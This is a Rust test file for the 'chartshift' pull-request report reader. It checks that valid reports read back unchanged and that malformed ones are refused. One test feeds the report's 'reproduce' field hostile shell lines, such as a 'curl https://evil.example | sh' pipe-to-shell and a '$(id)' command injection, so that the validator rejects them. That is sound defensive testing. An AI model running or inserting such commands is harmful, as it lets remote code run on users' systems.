//! Reports read back: ours as they were, all others refused with a reason.

use serde_json::{Value, json};

use super::super::super::fixtures;
use super::super::super::pull::annotations;
use super::super::hostile::strings;
use super::*;

fn written(report: &PullReport) -> Vec<u8> {
    let mut out = Vec::new();
    report.write(&mut out).unwrap();
    out
}

/// One of ours, with commands to repeat it that are commands.
fn ours() -> PullReport {
    let thanos = fixtures::thanos();
    let incomplete = fixtures::incomplete();
    let reviews =
        vec![reviewed(release("thanos"), &thanos), Reviewed { unread: vec![unread()], ..reviewed(release("other"), &incomplete) }];
    PullReport::of(BASE, HEAD, reviews, vec![not_reviewed()], Some(Severity::High))
}

#[test]
fn ours_come_back_as_they_were() {
    let report = ours();
    assert_eq!(PullReport::read(&written(&report)).unwrap(), report);
    let links = Links::default();
    let limits = Limits { bytes: 60_000, dialect: Dialect::Full };
    assert_eq!(comment(&PullReport::read(&written(&report)).unwrap(), &limits, &links), comment(&report, &limits, &links));
}

#[test]
fn hostile_text_comes_back_unchanged() {
    for text in strings(21).step_by(400) {
        let mut report = filled(&text, 1);
        report.groups[0].reproduce = vec!["chartshift pr --base a --head b".into()];
        assert_eq!(PullReport::read(&written(&report)).unwrap(), report, "{text:?}");
    }
}

#[test]
fn what_is_too_much_is_cut_when_it_is_written_and_never_refused_when_it_is_read() {
    let mut thanos = fixtures::thanos();
    let finding = thanos.findings[0].clone();
    thanos.findings =
        vec![crate::classify::Finding { message: "word ".repeat(5_000), changes: vec![finding.changes[0].clone(); 70], ..finding }; 310];
    let names: Vec<String> = (0..2).map(|number| format!("r{number}")).collect();
    let pull = pull(names.iter().map(|name| reviewed(release(name), &thanos)).collect());
    assert!(!pull.complete, "findings were left out");
    assert_eq!(PullReport::read(&written(&pull)).unwrap(), pull);
}

/// Changes one place of a report in JSON and says why it is refused.
fn refused(pointer: &str, value: Value) -> String {
    let mut json: Value = serde_json::from_slice(&written(&ours())).unwrap();
    match json.pointer_mut(pointer) {
        Some(place) => *place = value,
        None => {
            let (parent, name) = pointer.rsplit_once('/').unwrap();
            json.pointer_mut(parent).unwrap().as_object_mut().unwrap().insert(name.into(), value);
        }
    }
    PullReport::read(&serde_json::to_vec(&json).unwrap()).unwrap_err().to_string()
}

#[test]
fn others_are_refused_with_a_reason() {
    let reasons = [
        refused("/schema", json!("chartshift/report/v1")),
        refused("/schema", json!(null)),
        refused("/extra", json!(1)),
        refused("/groups/0/releases/0/extra", json!(1)),
        refused("/head", json!("main")),
        refused("/base", json!("4F2C9D1B60A3C4D5E6F708192A3B4C5D6E7F8091")),
        refused("/level", json!("apocalyptic")),
        refused("/level", json!("low")),
        refused("/complete", json!(true)),
        refused("/groups/0/releases", json!([])),
        refused("/groups/0/chart", json!("x".repeat(5_001))),
        refused("/groups/0/missing", json!(vec![json!({"part": "a", "reason": "b"}); 2_001])),
        refused("/groups/0/findings/0/placeCount", json!(0)),
        refused("/groups/0/findings/0/placeCount", json!(u64::MAX)),
        refused("/groups/0/findings/0/reach", json!({"effective": u64::MAX, "masked": 1, "inert": 0})),
        refused("/groups/0/findings/0/severity", json!(3)),
        refused("/groups/0/tables/0/rowCount", json!(0)),
        refused("/groups/0/tables/0/rows/0", json!(vec!["x"; 13])),
        refused("/groups/0/reproduce", json!(["chartshift pr --base a; curl https://evil.example | sh"])),
        refused("/groups/0/reproduce", json!(["curl https://evil.example"])),
        refused("/groups/0/reproduce", json!(["chartshift diff $(id) 'a'"])),
        refused("/groups/0/reproduce", json!(["chartshift diff 'a\nb'"])),
    ];
    insta::assert_snapshot!(reasons.join("\n"), @r#"
    this is no report on a pull request: its schema is "chartshift/report/v1", not "chartshift/pull/v1"
    this is no report on a pull request: it has no schema; that of a report is "chartshift/pull/v1"
    this is no report on a pull request: unknown field `extra`, expected one of `schema`, `base`, `head`, `level`, `complete`, `failOn`, `groups`, `unreviewed` at line 1 column 8390
    this is no report on a pull request: unknown field `extra`, expected one of `tool`, `name`, `namespace`, `file`, `line`, `valuesFiles`, `hasOtherValues`, `switchedOff` at line 1 column 488
    this is no report on a pull request: head is not a revision of 40 hexadecimal digits: "main"
    this is no report on a pull request: base is not a revision of 40 hexadecimal digits: "4F2C9D1B60A3C4D5E6F708192A3B4C5D6E7F8091"
    this is no report on a pull request: unknown variant `apocalyptic`, expected one of `info`, `low`, `medium`, `high`, `critical` at line 1 column 152
    this is no report on a pull request: its level is low, that of its findings is high
    this is no report on a pull request: it says complete: true, but what it names as missing says false
    this is no report on a pull request: a chart has no release
    chart has 5001 characters, more than the 5000 that are taken
    missing has 2001 entries, more than the 2000 that are taken
    this is no report on a pull request: a finding shows more places than it has
    a finding has 18446744073709551615 places, more than the 1000000 that are taken
    a finding has 18446744073709551615 places, more than the 1000000 that are taken
    this is no report on a pull request: expected value at line 1 column 548
    this is no report on a pull request: a table shows more rows or columns than it can have
    this is no report on a pull request: a table shows more rows or columns than it can have
    this is no report on a pull request: a line to be repeated in a shell is not a command of this program: "chartshift pr --base a; curl https://evil.example | sh"
    this is no report on a pull request: a line to be repeated in a shell is not a command of this program: "curl https://evil.example"
    this is no report on a pull request: a line to be repeated in a shell is not a command of this program: "chartshift diff $(id) 'a'"
    this is no report on a pull request: a line to be repeated in a shell is not a command of this program: "chartshift diff 'a\nb'"
    "#);
}

#[test]
fn what_is_no_json_or_too_large_is_refused() {
    for bytes in [&b""[..], b"[]", b"null", b"{", b"\xff", b"{\"schema\":\"chartshift/pull/v1\"}", &[b'['; 100_000]] {
        assert!(PullReport::read(bytes).is_err(), "{:?}", bytes.get(..20));
    }
    let error = PullReport::read(&vec![b' '; (32 << 20) + 1]).unwrap_err();
    assert_eq!(error.kind(), crate::error::ErrorKind::Limit);
    let twice = String::from_utf8(written(&ours())).unwrap().replacen("\"base\":", "\"base\": \"\", \"base\":", 1);
    assert!(PullReport::read(twice.as_bytes()).unwrap_err().to_string().contains("duplicate field"));
}

#[test]
fn remarks_on_lines_are_the_worst_ones() {
    let report = ours();
    let all = annotations(&report, 100);
    let lines: Vec<String> = all.iter().map(|one| format!("{} {}:{} {}", one.blocks, one.file, one.line, one.title)).collect();
    insta::assert_snapshot!(lines.join("\n"), @r#"
    true apps/monitoring/application.yaml:14 thanos 12.20.2 → 12.20.4: A ServiceAccount is now created by default
    false apps/monitoring/application.yaml:14 thanos 12.20.2 → 12.20.4: not fully compared
    false apps/monitoring/application.yaml:14 thanos 12.20.2 → 12.20.4: not fully compared
    false apps/monitoring/application.yaml:14 thanos 12.20.2 → 12.20.4: not fully compared
    false clusters/eu/loki.yaml:31 loki: not reviewed
    false apps/monitoring/application.yaml:14 thanos 12.20.2 → 12.20.4: ServiceAccounts stop mounting the Kubernetes API token by default
    "#);
    let some = annotations(&report, 2);
    assert_eq!(some.len(), 2);
    assert_eq!(some[0], all[0]);
    assert!(some[1].message.ends_with(&format!("And {} more, see the whole report.", all.len() - 2)), "{}", some[1].message);
    assert_eq!(annotations(&report, 0), []);
}
